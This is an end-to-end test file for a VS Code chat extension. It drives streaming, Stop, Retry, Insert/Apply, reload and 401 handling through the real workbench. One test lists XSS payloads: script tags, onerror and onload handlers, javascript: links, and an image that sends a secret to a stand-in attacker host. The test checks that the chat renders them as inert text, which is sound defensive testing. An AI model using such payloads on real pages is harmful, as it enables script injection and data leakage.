// The chat panel in the real workbench, driven through its accessibility contract: the `Message` box, the Send / Stop
// / New chat / Retry / Copy / Insert / Apply buttons, messages as articles labelled `User message` / `Assistant
// message` (aria-busy while streaming), errors as role=alert. The reference server answers, with scripted turns and
// faults. One workbench for all of it, in this order: the chat itself; code the model wrote with invisible or
// reordering characters (Insert and Apply ask first, in VS Code's modal dialog); a recorded response shape; and last
// what changes under the panel (a window reload, then a server that wants a key, which stays configured).
// Screenshots in light and dark land in test-results/e2e/.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import {
  alerts,
  answerText,
  assistantMessages,
  busyAssistantMessage,
  button,
  chatFrame,
  lastFinishedAnswer,
  messageBox,
  openChat,
  sendMessage,
  userMessages,
} from '../support/e2e/chatView';
import { setColorTheme } from '../support/e2e/colorTheme';
import { screenshot } from '../support/e2e/screenshots';
import { until } from '../support/e2e/until';
import { useChatPanel } from '../support/e2e/useChatPanel';
import { useReferenceServer } from '../support/e2e/useReferenceServer';
import { useWorkbench } from '../support/e2e/useWorkbench';
import { applySettings } from '../support/e2e/settingsFile';
import { editorGroupWithTab, editorText, openFile, runCommand, selectLines, waitForCursor, waitForEditorFocus } from '../support/e2e/workbenchUi';
import { TROJAN_SOURCE, fenced } from '../support/deceptiveText';
import { compareAnswer, loadRecordedCases, type AssembledAnswer } from '../support/recorded/recordedCases';
import { replayThroughClient } from '../support/recorded/replayThroughClient';
import { faultTurn, replayTurn, textTurn, type ReferenceServer } from '../support/referenceServer';

const MODEL = 'chat-model';
const KEYED_MODEL = 'keyed-model';
/** The recorded body replayed through the real UI (see its describe block). */
const RECORDED_CASE = 'mistral/magistral-thinking-parts-stream';
const chatRequests = (server: ReferenceServer) => server.requests.filter((request) => request.path.endsWith('/chat/completions'));
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

describe('The chat panel in the workbench (e2e)', function () {
  const server = useReferenceServer({ model: MODEL });
  const keyed = useReferenceServer({ model: KEYED_MODEL, apiKey: 'sk-e2e-key-never-set-000' });
  const workbench = useWorkbench(() => ({
    // Auto-save off: the disk shows only what a test saved itself (the deceptive code's test reads hello.ts from disk).
    settings: { 'askModel.baseUrl': server().url, 'askModel.model': MODEL, 'askModel.maxRetries': 0, 'files.autoSave': 'off' },
    waitForActivation: false, // opening the chat activates the extension
  }));
  const chat = useChatPanel(workbench);
  beforeEach(() => {
    server().reset();
    keyed().reset();
  });

  it('sends a message and streams the answer: busy while it streams, then exactly the text, with a footer', async () => {
    const answer = 'One two three four five six seven eight nine ten.';
    server().script(faultTurn({ type: 'slowDrip', delayMs: 200 }, textTurn(answer, { chunks: 10 })));
    await sendMessage(chat.view, 'Count to ten, slowly.');

    const user = userMessages(chat.view).last();
    await user.waitFor();
    assert.match(await user.innerText(), /Count to ten, slowly\./);
    // While it streams: the message is aria-busy, Stop is offered, and part of the answer is already on screen.
    const busy = busyAssistantMessage(chat.view);
    await busy.waitFor();
    await button(chat.view, 'Stop').waitFor();
    await until(async () => {
      const partial = await answerText(busy);
      return partial.startsWith('One') && partial !== answer;
    }, 'a partial answer while aria-busy is true');

    const done = await lastFinishedAnswer(chat.view);
    assert.equal(await answerText(done), answer);
    assert.equal(await done.getAttribute('aria-busy'), null);
    assert.match(await done.innerText(), new RegExp(`model ${MODEL} · tokens \\d+/\\d+/\\d+`));
    await button(chat.view, 'Stop').waitFor({ state: 'hidden' });
    assert.equal(await alerts(chat.view).count(), 0);
    const sent = chatRequests(server()).at(-1)?.body as { messages: { role: string; content: unknown }[]; stream: boolean };
    assert.equal(sent.stream, true);
    assert.equal(sent.messages.filter((message) => message.role === 'user').at(-1)?.content, 'Count to ten, slowly.');
  });

  it('Stop ends the stream and keeps the partial answer', async () => {
    const answer = Array.from({ length: 30 }, (_, i) => `word${i + 1}`).join(' ');
    server().script(faultTurn({ type: 'slowDrip', delayMs: 250 }, textTurn(answer, { chunks: 30 })));
    await sendMessage(chat.view, 'Say thirty words.');
    const busy = busyAssistantMessage(chat.view);
    await until(async () => (await answerText(busy)).includes('word2'), 'the first words');
    await button(chat.view, 'Stop').click();

    const stopped = await lastFinishedAnswer(chat.view);
    const partial = await answerText(stopped);
    assert.ok(partial.length > 0 && answer.startsWith(partial) && partial !== answer, `a partial answer was kept: "${partial}"`);
    assert.match(await stopped.innerText(), /Stopped/);
    // Nothing more arrives after Stop.
    await new Promise((resolve) => setTimeout(resolve, 800));
    assert.equal(await answerText(stopped), partial);
  });

  it('shows a server error as an alert, and Retry sends the question again', async () => {
    server().script(
      faultTurn({ type: 'status', status: 500, body: 'openai', message: 'The e2e server fell over.' }),
      textTurn('Second time lucky.'),
    );
    await sendMessage(chat.view, 'Will this work?');
    const alert = alerts(chat.view).first();
    await alert.waitFor();
    assert.match(await alert.innerText(), /500|fell over/);
    assert.equal(chatRequests(server()).length, 1, 'maxRetries 0: no automatic retry');

    await button(alert, 'Retry').click();
    await until(async () => (await answerText(assistantMessages(chat.view).last())).includes('Second time lucky.'), 'the retried answer');
    await lastFinishedAnswer(chat.view);
    assert.equal(await alerts(chat.view).count(), 0, 'the error is gone once the retry answered');
    assert.equal(chatRequests(server()).length, 2);
    assert.equal(await userMessages(chat.view).count(), 1, 'Retry does not repeat the user message');
  });

  it('Insert puts a code block from the answer into the editor at the cursor', async () => {
    const { page } = workbench;
    const code = 'export const answer = 42;';
    server().script(textTurn(`Add this line:\n\n\`\`\`ts\n${code}\n\`\`\`\n`));
    // The cursor at the end of hello.ts (as VS Code reports it: Insert goes where the cursor is), then back to the chat.
    await openFile(page, 'hello.ts');
    await page.keyboard.press('Control+End');
    await waitForCursor(page, { line: (await editorText(editorGroupWithTab(page, 'hello.ts'))).split('\n').length, selected: 0 });
    await openChat(page);
    await sendMessage(chat.view, 'Give me a constant.');
    const done = await lastFinishedAnswer(chat.view);
    await button(done, 'Insert').click();
    const editor = editorGroupWithTab(page, 'hello.ts');
    await until(async () => (await editorText(editor)).includes(code), 'the code in hello.ts');
    const text = await editorText(editor);
    assert.ok(text.trimEnd().endsWith(code), `inserted at the cursor (the end of the file):\n${text}`);
    assert.match(text, /^\/\/ A small file/, 'the rest of the file is untouched');
    await openFile(page, 'hello.ts');
    await page.keyboard.press('Control+Z'); // leave hello.ts as it was for the other tests
    await until(async () => !(await editorText(editor)).includes(code), 'the insert undone');
    await openChat(page);
  });

  it('Apply replaces the selection with a code block; Copy puts the code on the clipboard', async () => {
    const { page, session } = workbench;
    const code = '  return `Good day, ${name}!`;';
    server().script(textTurn(`Use this line instead:\n\n\`\`\`ts\n${code}\n\`\`\`\n`));
    await session.browser.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: session.server.origin });
    await openFile(page, 'hello.ts');
    await selectLines(page, 3, 3);
    await openChat(page);
    await sendMessage(chat.view, 'A friendlier greeting, please.');
    const done = await lastFinishedAnswer(chat.view);

    await button(done, 'Copy').click();
    await page.locator('.part.statusbar', { hasText: 'Ask Model: code copied' }).waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), code);

    await button(done, 'Apply').click();
    const editor = editorGroupWithTab(page, 'hello.ts');
    await until(async () => (await editorText(editor)).includes('Good day'), 'the selection replaced');
    const lines = (await editorText(editor)).split('\n');
    assert.equal(lines[2], code, 'line 3 is the applied code');
    assert.match(lines[1] ?? '', /^export function hello/, 'the line above is untouched');
    assert.equal(lines[3], '}', 'the line below is untouched');
    await openFile(page, 'hello.ts');
    await page.keyboard.press('Control+Z'); // one undo step reverts it
    await until(async () => !(await editorText(editor)).includes('Good day'), 'Apply undone in one step');
    await openChat(page);
  });

  it('renders model output as inert text: no script, handler, frame, style or unsafe link runs', async () => {
    const { page } = workbench;
    const payloads = [
      `<script>window.__askModelPwned = 'script'; parent.postMessage({ pwned: 'script' }, '*'); document.title = 'pwned';</script>`,
      `<img src=x onerror="window.__askModelPwned='img'; document.title='pwned'">`,
      `[a javascript link](javascript:window.__askModelPwned='js-link')`,
      `[a data link](data:text/html,<script>alert('data')</script>)`,
      `<a href="javascript:alert('raw-a')">a raw anchor</a>`,
      `<iframe src="javascript:alert('iframe')"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>`,
      `<style>body { display: none !important; } * { color: red !important; }</style>`,
      `<svg onload="window.__askModelPwned='svg'"><circle r="10"/></svg>`,
      `<details open ontoggle="window.__askModelPwned='details'">x</details>`,
      `![tracking pixel](https://attacker.invalid/pixel.png?code=secret)`,
      `![bad image](javascript:alert('img'))`,
    ];
    const answer = `Here is what you asked for:\n\n${payloads.join('\n\n')}\n\nThe end.`;
    server().script(textTurn(answer, { chunks: 7 }));
    const titleBefore = await page.title();
    await sendMessage(chat.view, 'Show me some HTML.');
    const done = await lastFinishedAnswer(chat.view);
    await new Promise((resolve) => setTimeout(resolve, 1_000)); // time for an onerror/onload to have fired

    const frame = await chatFrame(page);
    const inside = await frame.evaluate(() => {
      const message = [...document.querySelectorAll('[role="article"][aria-label="Assistant message"]')].at(-1);
      const dangerous = message?.querySelectorAll('script, iframe, style, svg, img, object, embed, [onerror], [onload], [ontoggle], [src], [srcdoc]');
      const links = [...(message?.querySelectorAll('a') ?? [])].map((a) => a.getAttribute('href') ?? '');
      return {
        pwned: (window as unknown as { __askModelPwned?: string }).__askModelPwned ?? null,
        title: document.title,
        dangerous: [...(dangerous ?? [])].map((element) => element.outerHTML.slice(0, 120)),
        links,
        bodyDisplay: getComputedStyle(document.body).display,
      };
    });
    assert.equal(inside.pwned, null, 'no payload ran inside the webview');
    assert.equal(inside.title, 'Ask Model');
    assert.deepEqual(inside.dangerous, [], 'no active element or handler made it into the DOM');
    for (const href of inside.links) assert.match(href, /^https?:/, `only web links survive: ${href}`);
    assert.notEqual(inside.bodyDisplay, 'none', 'the <style> payload was not applied');
    assert.equal(await page.evaluate(() => (window as unknown as { __askModelPwned?: string }).__askModelPwned ?? null), null);
    assert.equal(await page.title(), titleBefore, 'the workbench title is untouched');

    // The payloads are shown as text, as written.
    const shown = await answerText(done);
    for (const fragment of ['<script>', '<img src=x onerror=', '<iframe src=', '<style>', '<svg onload=', '<details open ontoggle=']) {
      assert.ok(shown.includes(fragment), `shown as text: ${fragment}\n${shown}`);
    }
    // Clicking the refused javascript: link text does nothing either.
    await done.getByText('a javascript link').first().click();
    await new Promise((resolve) => setTimeout(resolve, 500));
    assert.equal(await frame.evaluate(() => (window as unknown as { __askModelPwned?: string }).__askModelPwned ?? null), null);
    await messageBox(chat.view).waitFor({ state: 'visible' });
    assert.deepEqual(chat.dialogs, [], 'no alert/confirm/prompt dialog opened');
    await screenshot(page, 'chat-model-output-as-text', page.locator('.part.sidebar'));
  });

  it('light and dark screenshots of a conversation', async () => {
    const { page } = workbench;
    const answer = [
      '### What `hello` does',
      '',
      'It builds a greeting from a **name**:',
      '',
      '- takes one `string`',
      '- returns a template literal',
      '',
      '```ts',
      'export function hello(name: string): string {',
      '  return `Hello, ${name}!`;',
      '}',
      '```',
      '',
      'See [the handbook](https://www.typescriptlang.org/docs/handbook/2/template-literal-types.html).',
    ].join('\n');
    server().script(textTurn(answer, { chunks: 6 }));
    await sendMessage(chat.view, 'What does hello do?');
    await lastFinishedAnswer(chat.view);
    const sideBar = page.locator('.part.sidebar');
    await screenshot(page, 'chat-light');
    await screenshot(page, 'chat-panel-light', sideBar);
    await setColorTheme(page, 'dark');
    await screenshot(page, 'chat-dark');
    await screenshot(page, 'chat-panel-dark', sideBar);
    await setColorTheme(page, 'light');
  });

  describe('code that deceives (issue 16)', function () {
    // What the view draws of such code, links' hovers and a forged link are the webview tier's
    // (test/webview/deceptiveOutput.test.ts); here, what needs VS Code: its modal dialog, and the bytes on disk.
    this.timeout(120_000);
    /** VS Code's modal dialog (in VS Code for the Web, part of the workbench's DOM). */
    const modal = () => workbench.page.locator('.monaco-dialog-box');
    const helloOnDisk = (): string => fs.readFileSync(path.join(workbench.session.workspaceDir, 'hello.ts'), 'utf8');
    afterEach(async () => {
      // A failed test must not leave its dialog over the workbench for the next one.
      if (await modal().isVisible()) await modal().getByRole('button', { name: 'Cancel' }).click();
    });

    it('Insert and Apply ask first, naming the characters; Cancel writes nothing, "Insert Anyway" writes the exact bytes', async () => {
      const { page } = workbench;
      const block = TROJAN_SOURCE.stretchedString!;
      server().script(textTurn(`Use this:\n\n${fenced(block)}\n`));
      const before = helloOnDisk();
      await openFile(page, 'hello.ts');
      await selectLines(page, 3, 3);
      await openChat(page);
      await sendMessage(chat.view, 'Check the access level.');
      const done = await lastFinishedAnswer(chat.view);
      const editor = editorGroupWithTab(page, 'hello.ts');
      const shownBefore = await editorText(editor);

      for (const action of ['Apply', 'Insert'] as const) {
        await button(done, action).click();
        await modal().waitFor({ state: 'visible' });
        const text = (await modal().innerText()).replace(/\s+/g, ' ');
        assert.match(text, new RegExp(`${action} code that holds 4 invisible or reordering characters\\?`));
        for (const line of ['U+202E RIGHT-TO-LEFT OVERRIDE', 'U+2066 LEFT-TO-RIGHT ISOLATE ×2', 'U+2069 POP DIRECTIONAL ISOLATE']) assert.ok(text.includes(line), `${action}: the dialog names ${line}: ${text}`);
        await modal().getByRole('button', { name: 'Cancel' }).click();
        await modal().waitFor({ state: 'hidden' });
        await sleep(500); // a write after Cancel would have shown by now
        assert.equal(await editorText(editor), shownBefore, `${action} cancelled: the editor is unchanged`);
        assert.equal(await page.locator('.tabs-container .tab.dirty').count(), 0, `${action} cancelled: nothing unsaved`);
      }

      await button(done, 'Insert').click();
      await modal().getByRole('button', { name: 'Insert Anyway' }).click();
      await until(async () => (await page.locator('.tabs-container .tab.dirty').count()) === 1, 'hello.ts changed in its buffer');
      await openFile(page, 'hello.ts');
      await runCommand(page, 'File: Save');
      // Waits for the bytes themselves: a save truncates the file before writing it, and a read in between sees neither.
      await until(async () => helloOnDisk().includes(block.code), 'hello.ts saved with the exact bytes, controls and all');
      // Undo goes to the editor that has the keyboard: hello.ts's, once the Command Palette has handed it back.
      await waitForEditorFocus(page, 'hello.ts');
      await page.keyboard.press('Control+Z');
      await runCommand(page, 'File: Save');
      await until(async () => helloOnDisk() === before, 'hello.ts back as it was');
      await openChat(page);
    });
  });

  describe('a recorded response shape', () => {
    // One representative of the recorded corpus through the real UI: a body a real server sent (Mistral's magistral,
    // its answer in typed content parts with the thinking nested in them) replayed verbatim, and what the chat shows
    // must be what our core ChatClient assembles from the same bytes (`replayThroughClient`). Every recorded case is
    // checked below the UI: the core's assembly of each in test/unit/recordedResponses.test.ts, each surface's
    // rendering of an assembled answer in its own tests (the footer's facts in test/unit/run/answerFacts.test.ts and
    // test/unit/serverShapes.test.ts, Ask Model's document in test/unit/ask/askAnswer.test.ts, Edit Selection's message
    // in test/unit/ask/editSelection.test.ts, the chat view's reasoning and error card in test/webview/chatView.test.ts).
    // The case's text carries no Markdown syntax, so the chat's rendered text is the text.
    it(`typed content parts with nested thinking (${RECORDED_CASE}): the chat shows the answer, the collapsed reasoning and the footer the core assembles`, async () => {
      const recorded = loadRecordedCases().find((candidate) => candidate.name === RECORDED_CASE);
      if (!recorded) throw new Error(`no recorded case ${RECORDED_CASE}`);
      const expected = await replayThroughClient(recorded);
      // The chain is UI = core = what the case says a person must see: the unit tier checks the second link too.
      assert.deepEqual(compareAnswer(recorded.expected, expected), [], `${RECORDED_CASE}: the core assembles what the case expects`);
      assert.equal(expected.error, undefined, 'the representative ends without an error: its footer is checked');
      assert.notEqual(expected.reasoning, '', 'and has reasoning: its collapsed section is checked');

      server().script(replayTurn(recorded.body, { status: recorded.status }));
      await sendMessage(chat.view, `Answer like ${RECORDED_CASE}.`);
      const message = await lastFinishedAnswer(chat.view);
      assert.equal(server().queuedTurns, 0, 'the recorded body was the answer');

      assert.equal(await answerText(message), expected.text);
      const reasoning = message.locator('details.reasoning');
      assert.equal(await reasoning.locator('summary').innerText(), 'Reasoning');
      assert.equal(await reasoning.evaluate((details) => (details as HTMLDetailsElement).open), false, 'collapsed');
      const reasoningText = reasoning.locator('.reasoning-text');
      assert.equal(await reasoningText.isVisible(), false);
      await reasoning.locator('summary').click();
      await reasoningText.waitFor({ state: 'visible' });
      assert.equal(await reasoningText.textContent(), expected.reasoning);

      assert.equal(await alerts(message).count(), 0, 'no error card');
      assertFooter(await message.locator('.turn-footer').innerText(), expected);
    });
  });

  describe('across a reload and a server change (last: they change the window and the settings)', () => {
    it('keeps the conversation across a window reload', async () => {
      const { session } = workbench;
      server().script(textTurn('Walrus noted.'));
      await sendMessage(chat.view, 'Remember the walrus.');
      await lastFinishedAnswer(chat.view);

      await session.reload();
      await openChat(session.page);
      const walrus = userMessages(chat.view).filter({ hasText: 'Remember the walrus.' });
      // The chat reopens on the last conversation; if it starts a new one, the old one must be in History.
      try {
        await walrus.waitFor({ timeout: 5_000 });
      } catch {
        await button(chat.view, 'History').click();
        await chat.view.getByRole('button', { name: /Remember the walrus/ }).first().click();
        await walrus.waitFor();
      }
      assert.match(await answerText(assistantMessages(chat.view).last()), /Walrus noted\./);
    });

    it('a 401 shows an alert that names it and offers Set API Key (last: it leaves the keyed server configured)', async () => {
      const { page, session } = workbench;
      await applySettings(page, session.settings, { 'askModel.baseUrl': keyed().url, 'askModel.model': KEYED_MODEL });
      await sendMessage(chat.view, 'Who am I?');
      const alert = alerts(chat.view).first();
      await alert.waitFor();
      assert.match(await alert.innerText(), /401/);
      await button(alert, 'Set API Key').waitFor();
      assert.equal(chatRequests(keyed()).length, 1);
      assert.equal(chatRequests(keyed())[0]?.headers['authorization'], undefined, 'no key was sent');
      assert.equal(chatRequests(server()).length, 0, 'the new base URL applied to the very next message');
      await screenshot(page, 'chat-401-alert');
    });
  });
});

/**
 * The footer says what the core assembled: "refused by the model" first exactly when it refused, the token figures
 * of its usage, and the finish reason when it is not "stop"; timings vary from run to run.
 */
function assertFooter(footer: string, answer: AssembledAnswer): void {
  const parts = footer.split(' · ');
  assert.equal(parts[0] === 'refused by the model', answer.refused, `"refused by the model" first exactly when refused: ${footer}`);
  assert.match(parts[answer.refused ? 1 : 0] ?? '', /^model \S+$/, footer);
  const usage = answer.usage as { prompt_tokens?: number; completion_tokens?: number; total_tokens?: number } | undefined;
  const tokens = parts.filter((part) => part.startsWith('tokens '));
  if (usage === undefined) assert.deepEqual(tokens, [], footer);
  else assert.deepEqual(tokens, [`tokens ${usage.prompt_tokens}/${usage.completion_tokens}/${usage.total_tokens} (prompt/completion/total)`], footer);
  const finish = parts.filter((part) => part.startsWith('finish '));
  assert.deepEqual(finish, answer.finishReason === undefined || answer.finishReason === 'stop' ? [] : [`finish ${answer.finishReason}`], footer);
}
